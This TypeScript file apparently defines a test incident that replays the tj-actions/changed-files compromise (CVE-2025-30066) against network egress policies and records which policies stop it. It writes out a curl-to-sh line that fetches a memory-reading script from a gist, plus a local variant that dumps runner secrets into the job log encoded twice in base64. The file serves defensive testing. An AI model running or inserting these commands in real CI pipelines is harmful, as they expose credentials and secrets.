import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Incident } from '../../incident.ts';

const GIST = '/nikitastupin/30e525b776c409e03c2d6f328f254965/raw/memdump.py';

const dump = readFileSync(join(import.meta.dirname, 'dump.sh'), 'utf8');
const print = 'base64 -w0 | base64 -w0';

export const tjActions: Incident = {
  id: 'tj-actions',
  date: '2025-03-14',
  name: 'tj-actions/changed-files (CVE-2025-30066)',
  what: 'A tampered action fetched a memory reader from a gist and printed the secrets of the runner into the job log, base64 twice. No socket carried them.',
  differs:
    'The reader takes the environment of the parent process, not the memory of Runner.Worker.',
  places: [
    {
      name: 'gist.githubusercontent.com',
      // One CDN serves this and raw.githubusercontent.com.
      address: '185.199.108.133',
      replies: { [`GET ${GIST}`]: { body: dump } },
    },
  ],
  script: `
    curl -fsS "$NPM_REGISTRY-/ping" >pinged
    (curl -sSf https://gist.githubusercontent.com${GIST} | sh | ${print}) || true`,
  proof: 'pinged',
  control: { arrives: [`GET gist.githubusercontent.com${GIST}`], secretsIn: 'log' },
  runs: [
    ...(['gitlab', 'github'] as const).map((policy) => ({
      ...{ policy, verdict: 'stopped' as const },
      why: 'Only because its reader came from a gist, which no preset holds.',
      rows: [
        { to: 'gist.githubusercontent.com', by: 'sh > sh > curl', reason: 'default' as const },
      ],
    })),
    {
      policy: 'gitlab',
      verdict: 'limit',
      why: 'With the reader shipped inside, nothing leaves by the network. The log is the way out, and egress control does not see it.',
      rows: [],
      logs: true,
      script: `
        curl -fsS "$NPM_REGISTRY-/ping" >pinged
        sh "$INCIDENT/dump.sh" | ${print}`,
    },
  ],
  sources: ['https://www.cve.org/CVERecord?id=CVE-2025-30066'],
};
